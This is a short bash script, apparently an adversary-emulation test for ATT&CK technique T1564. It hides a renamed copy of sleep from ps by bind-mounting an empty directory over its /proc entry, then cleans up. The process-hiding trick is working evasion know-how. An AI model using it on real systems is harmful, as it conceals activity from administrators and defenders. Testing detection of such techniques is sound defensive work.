#!/bin/bash
# T1564: A process is covered by a mount, so that ps does not see it.
cp /bin/sleep /var/tmp/upd; /var/tmp/upd 3 & p=$!; mkdir -p /var/tmp/e; mount --bind /var/tmp/e /proc/$p; ps aux >/dev/null; umount /proc/$p; kill $p
